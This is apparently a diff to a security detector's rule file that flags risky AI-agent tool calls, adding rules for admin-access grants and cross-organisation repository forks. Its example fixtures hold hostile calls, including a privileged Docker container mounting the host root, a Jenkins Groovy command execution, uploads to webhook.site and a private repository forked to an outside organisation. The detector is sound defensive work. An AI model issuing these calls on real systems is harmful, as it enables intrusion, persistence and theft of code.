@@ -1,7 +1,7 @@
 import { ruleAnalyzer, perCall, type AnalysisInput, type Rule } from '../rule.js';
 import type { CommandView, SimpleCommand } from '../shell/types.js';
 import { clientQueries, isSqlClient, throwawayConnection } from '../knowledge/sql-clients.js';
-import { readByShape } from '../tool-shape.js';
+import { nameWords, readByShape } from '../tool-shape.js';
 import { canonicalPath } from '../knowledge/paths.js';
 import { destinationOf, EXFIL_KINDS, urlPath } from '../knowledge/hosts.js';
 
@@ -150,7 +150,9 @@ const HTTP_CLIENTS = new Set(['curl', 'wget', 'http', 'https', 'xh']);
 const ROOT_API_PORTS = new Set([2375, 2376, 4243, 10250, 10255, 2379, 2380]);
 const ADMIN_PORTS = new Set([2375, 2376, 2379, 2380, 10250, 10255, 8500, 4646, 5984, 9200, 8086, 6443, 4243]);
 const ADMIN_PATHS = ['/actuator/env', '/actuator/heapdump', '/actuator/configprops', '/actuator/threaddump', '/actuator/gateway', '/debug/pprof', '/server-status', '/containers/json', '/containers/create', '/api/v1/secrets', '/v2/keys', '/v3/kv', '/_all_dbs', '/manager/html', '/jmx-console', '/_cat/indices', '/api/v1/namespaces', '/v1/kv', '/v1/agent', '/.env', '/.git/config'];
-const INFRA_PATH = /^\/(?:v\d+\.\d+\/)?(?:containers|images|volumes|networks|services|swarm|secrets|exec|nodes|plugins)(?:\/|$)|^\/api\/v1\/|^\/apis\/|^\/v[23]\/(?:keys|kv)|^\/v1\/(?:kv|agent|acl|job|jobs|namespaces)/;
+// the Docker Engine's write endpoints and the Kubernetes core resources by name: an app's own `/api/v1/items`
+// or `/images` upload on localhost is not a cluster
+const INFRA_PATH = /^\/(?:v\d+\.\d+\/)?(?:containers\/(?:create|[^/]+\/(?:start|stop|restart|kill|exec|attach|update|archive))|images\/create|exec\/[^/]+\/start|(?:volumes|networks|services|secrets|configs|plugins)\/create|swarm\/(?:init|join|leave)|nodes\/[^/]+\/update)|^\/api\/v1\/(?:namespaces|pods|nodes|services|secrets|configmaps|serviceaccounts|persistentvolumes|endpoints|replicationcontrollers)(?:\/|$)|^\/apis\/|^\/v[23]\/(?:keys|kv)|^\/v1\/(?:kv|agent|acl|job|jobs|namespaces)/;
 /**
  * A credential a curl or wget line sends: a sensitive header (`-H "Authorization: …"`,
  * `--header=Cookie:…`), basic auth (`-u user:pass`) or a cookie (`-b`); the first one found.
@@ -335,7 +337,7 @@ export const RULES: readonly Rule[] = [
       const groovy = /\/script(text)?$/.test(path) && /(^|&)script=/.test((i.call.body ?? '').slice(0, 4096));
       return (infraPort || groovy || ((d.kind === 'private' || d.kind === 'loopback') && INFRA_PATH.test(path))) ? `${i.call.method} ${i.call.url}` : undefined;
     },
-    examples: { fire: [{ Network: { method: 'DELETE', url: 'http://10.0.0.40:2375/containers/db?force=true' } }, { Network: { method: 'POST', url: 'https://ci.acme.io/scriptText', body: "script=println('id'.execute().text)" } }, { Network: { method: 'POST', url: 'http://10.0.0.40:2375/containers/create', body: '{"Image":"alpine","HostConfig":{"Privileged":true,"Binds":["/:/host"]}}' } }, { Network: { method: 'DELETE', url: 'https://10.0.0.1:6443/api/v1/namespaces/prod/pods/api-0' } }], quiet: [{ Network: { method: 'POST', url: 'https://api.example.com/script', body: '{"name":"build"}' } }, { Network: { method: 'POST', url: 'http://localhost:3000/api/users', body: '{"name":"x"}' } }, { Network: { method: 'GET', url: 'http://10.0.0.40:2375/version' } }, { Network: { method: 'DELETE', url: 'http://localhost:3000/api/v2/todos/3' } }] },
+    examples: { fire: [{ Network: { method: 'DELETE', url: 'http://10.0.0.40:2375/containers/db?force=true' } }, { Network: { method: 'POST', url: 'https://ci.acme.io/scriptText', body: "script=println('id'.execute().text)" } }, { Network: { method: 'POST', url: 'http://10.0.0.40:2375/containers/create', body: '{"Image":"alpine","HostConfig":{"Privileged":true,"Binds":["/:/host"]}}' } }, { Network: { method: 'DELETE', url: 'https://10.0.0.1:6443/api/v1/namespaces/prod/pods/api-0' } }], quiet: [{ Network: { method: 'PATCH', url: 'http://localhost:8080/api/v1/items/7', body: '{"quantity": 3}' } }, { Network: { method: 'POST', url: 'http://localhost:3000/images', body: '{"name":"cat.png"}' } }, { Network: { method: 'POST', url: 'https://api.example.com/script', body: '{"name":"build"}' } }, { Network: { method: 'POST', url: 'http://localhost:3000/api/users', body: '{"name":"x"}' } }, { Network: { method: 'GET', url: 'http://10.0.0.40:2375/version' } }, { Network: { method: 'DELETE', url: 'http://localhost:3000/api/v2/todos/3' } }] },
   },
   {
     id: 'PX-CALL-013', name: 'sends-credentials-to-untrusted-host', score: 85, tactic: 'exfiltration', technique: 'T1567', strong: true,
@@ -391,6 +393,51 @@ export const RULES: readonly Rule[] = [
     },
     examples: { fire: [{ Unknown: { tool_name: 'http_post', params: { endpoint: 'https://webhook.site/abc', data: 'x' } } }, { Unknown: { tool_name: 'upload', params: { endpoint: 'https://transfer.sh/f' } } }, { Unknown: { tool_name: 'fetch', params: { target_url: 'http://45.33.12.7/x' } } }], quiet: [{ Unknown: { tool_name: 'fetch', params: { url: 'http://45.33.12.7/x' } } }, { Unknown: { tool_name: 'fetch', params: { url: 'https://docs.python.org/3/' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'http://localhost:3000/health' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'https://registry.npmjs.org/zod' } } }] },
   },
+  {
+    id: 'PX-CALL-019', name: 'tool-grants-admin-access', score: 70, tactic: 'persistence', technique: 'T1098',
+    message: 'A tool call gives an account admin, owner or maintainer rights on a repository, organization or project',
+    why: 'A collaborator or member added with admin rights keeps push, settings and secrets access after the session, whoever asked for it.',
+    check: (i) => {
+      if (i.call.kind !== 'unknown') return undefined;
+      const words = nameWords(i.call.toolName);
+      if (!words.some((w) => GRANT_VERBS.has(w)) || !words.some((w) => GRANT_OBJECTS.has(w))) return undefined;
+      const role = paramValue(i.call.params, ['permission', 'role', 'access_level', 'accesslevel']);
+      return role !== undefined && ADMIN_ROLES.has(role.toLowerCase()) ? `${i.call.toolName}: ${role}` : undefined;
+    },
+    examples: {
+      fire: [{ Unknown: { tool_name: 'mcp__github__add_collaborator', params: { owner: 'acme', repo: 'payments-api', username: 'someone-42', permission: 'admin' } } }, { Unknown: { tool_name: 'mcp__gitlab__add_project_member', params: { project_id: 12, user_id: 7, access_level: 'owner' } } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__github__add_collaborator', params: { owner: 'acme', repo: 'docs', username: 'new-writer', permission: 'push' } } }, { Unknown: { tool_name: 'mcp__github__list_collaborators', params: { owner: 'acme', repo: 'api' } } }],
+    },
+  },
+  {
+    id: 'PX-CALL-020', name: 'tool-forks-repository-elsewhere', score: 60, tactic: 'exfiltration', technique: 'T1567.001',
+    message: 'A tool call forks a repository into another organization or account',
+    why: 'A fork carries the whole code and history to an owner the organization does not control; for a private repository that is the code leaving.',
+    check: (i) => {
+      if (i.call.kind !== 'unknown' || !nameWords(i.call.toolName).includes('fork')) return undefined;
+      const owner = paramValue(i.call.params, ['owner']);
+      const into = paramValue(i.call.params, ['organization', 'org', 'namespace', 'target_owner']);
+      return owner !== undefined && into !== undefined && owner.toLowerCase() !== into.toLowerCase() ? `${i.call.toolName}: ${owner} → ${into}` : undefined;
+    },
+    examples: {
+      fire: [{ Unknown: { tool_name: 'mcp__github__fork_repository', params: { owner: 'acme-corp', repo: 'internal-billing', organization: 'billing-mirror-pub' } } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__github__fork_repository', params: { owner: 'vercel', repo: 'next.js' } } }, { Unknown: { tool_name: 'mcp__github__fork_repository', params: { owner: 'acme-corp', repo: 'api', organization: 'acme-corp' } } }],
+    },
+  },
 ];
+
+const GRANT_VERBS = new Set(['add', 'invite', 'update', 'set', 'grant', 'create', 'edit']);
+const GRANT_OBJECTS = new Set(['collaborator', 'collaborators', 'member', 'members', 'membership', 'permission', 'permissions', 'role', 'access']);
+const ADMIN_ROLES = new Set(['admin', 'maintain', 'maintainer', 'owner', 'owners', '50', '40']);
+
+/** A top-level parameter's value as text, by any of its names (any case). */
+function paramValue(params: unknown, names: readonly string[]): string | undefined {
+  if (typeof params !== 'object' || params === null || Array.isArray(params)) return undefined;
+  for (const [k, v] of Object.entries(params)) {
+    if (!names.includes(k.toLowerCase())) continue;
+    if (typeof v === 'string' || typeof v === 'number') return String(v).slice(0, 256);
+  }
+  return undefined;
+}
 
 export const toolCall = ruleAnalyzer('tool_call', RULES);
